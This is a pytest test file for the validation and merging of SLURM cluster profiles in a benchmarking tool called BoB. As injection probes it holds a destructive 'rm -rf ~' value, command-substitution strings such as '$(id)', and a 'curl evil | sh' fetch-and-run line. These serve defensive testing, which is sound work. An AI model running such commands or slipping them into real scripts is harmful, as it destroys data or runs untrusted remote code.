"""A cluster profile comes from a file, the suite and flags, in this order; none of them can slip code into a script."""

from __future__ import annotations

from pathlib import Path

import pytest

from bob.cli.main import build_parser, main
from bob.core.errors import ConfigError, SuiteError
from bob.jobs.cluster_profile import ClusterProfile, merged_profile, read_profile


def test_flags_win_over_the_suite_and_the_suite_over_the_file(tmp_path: Path) -> None:
    file = tmp_path / "cluster.yaml"
    file.write_text("partition: gpu\naccount: lab\ntime_min: 60\nsetup: [module load cuda]\n")
    profile = merged_profile(
        file=read_profile(file), suite={"time_min": 90, "gpus": 2}, flags={"gpus": 4}, trusted=False
    )
    assert (profile.partition, profile.account, profile.time_min, profile.gpus) == ("gpu", "lab", 90, 4)
    assert profile.setup == ["module load cuda"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("partitoin: gpu\n", "cluster.yaml:1: key 'partitoin' is not known. Did you mean 'partition'?"),
        ("time_min: 60\ngpus: many\n", "cluster.yaml:2: gpus is 'many'"),
        ("rules:\n  - {protocol: finetune, gpu: 2}\n", "cluster.yaml:2: key 'gpu' is not known. Did you mean 'gpus'?"),
        ("- 1\n", "cluster.yaml:1: expected a mapping"),
        ("a: [\n", "not valid YAML"),
    ],
)
def test_a_faulty_profile_names_file_line_and_what_was_expected(tmp_path: Path, text: str, said: str) -> None:
    file = tmp_path / "cluster.yaml"
    file.write_text(text)
    with pytest.raises(SuiteError, match=r"docs/slurm\.md|YAML|mapping") as error:
        read_profile(file)
    assert said in str(error.value)


@pytest.mark.parametrize("key", ["partition", "account", "qos", "constraint"])
@pytest.mark.parametrize("value", ["gpu\nrm -rf ~", "gpu; true", "$(id)", "`id`", "a b", '"', ""])
def test_no_value_can_end_its_line_of_the_batch_script(key: str, value: str) -> None:
    with pytest.raises(ConfigError, match=f"cluster setting {key}"):
        merged_profile(file={}, suite={key: value}, flags={}, trusted=True)


@pytest.mark.parametrize("suite", [{"setup": ["curl evil | sh"]}, {"options": {"mail-type": "END"}}])
def test_shell_lines_and_options_of_a_suite_need_trust(suite: dict[str, object]) -> None:
    with pytest.raises(ConfigError, match="SLURM would run or obey") as error:
        merged_profile(file={}, suite=suite, flags={}, trusted=False)
    assert "--trust-cluster" in str(error.value)
    assert merged_profile(file={}, suite=suite, flags={}, trusted=True).model_dump(exclude_unset=True) == suite


def test_flags_win_over_rules_too_and_a_suites_rules_come_after_the_files() -> None:
    file = {"rules": [{"protocol": "finetune", "gpus": 4, "time_min": 720}]}
    suite = {"rules": [{"protocol": "frozen", "time_min": 90}]}
    profile = merged_profile(file=file, suite=suite, flags={"gpus": 2}, trusted=False)
    said = [rule.model_dump(exclude_unset=True) for rule in profile.rules]
    assert said == [{"protocol": "finetune", "time_min": 720}, {"protocol": "frozen", "time_min": 90}]


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"time_min": 3}, "time_min is 3, of which jobs are told to stop 120 s ahead"),
        ({"rules": [{"task": "detection", "time_min": 2}]}, "time_min is 2"),
        ({"gpus": 2, "processes": 3}, "processes is 3 and gpus is 2"),
        ({"options": {"output": "elsewhere"}}, "options.output is BoB's own"),
    ],
)
def test_what_only_an_allocation_would_find_out_is_refused_before_anything_is_submitted(
    values: dict[str, object], said: str
) -> None:
    with pytest.raises(ConfigError) as error:
        merged_profile(file=values, suite={}, flags={}, trusted=False)
    assert said in str(error.value) and error.value.hint


@pytest.mark.parametrize(
    ("rule", "said"),
    [
        ("{task: detecton}", "task 'detecton' is not known. Did you mean 'detection'?"),
        ("{protocol: finetun}", "protocol of any task 'finetun' is not known. Did you mean 'finetune'?"),
        ("{task: detection, protocol: knn}", "protocol of detection 'knn' is not known."),
    ],
)
def test_a_rule_on_what_there_is_not_would_fit_no_job_and_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], rule: str, said: str
) -> None:
    file = tmp_path / "cluster.yaml"
    file.write_text(f"rules:\n  - {{task: classification, protocol: knn, cpus: 2}}\n  - {rule}\n")
    assert main(["plan", "smoke", "--executor", "slurm", "--cluster", str(file)]) == 2
    assert said in capsys.readouterr().err


@pytest.mark.parametrize("flags", [["--workers", "2"], ["--display", "lines"]])
def test_flags_of_the_runner_here_are_a_mistake_on_a_cluster(
    capsys: pytest.CaptureFixture[str], flags: list[str]
) -> None:
    assert main(["run", "smoke", "--executor", "slurm", "--dry-run", *flags]) == 2
    assert f"{flags[0]} goes with --executor local" in capsys.readouterr().err


def test_cluster_flags_without_the_executor_are_a_mistake(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["run", "smoke", "--partition", "gpu"]) == 2
    assert "--partition goes with --executor slurm" in capsys.readouterr().err


def test_every_key_of_the_profile_that_a_flag_can_set_has_its_flag() -> None:
    options = vars(build_parser().parse_args(["run", "smoke"]))
    assert set(ClusterProfile.model_fields) - options.keys() == {"warn_s", "options", "rules"}
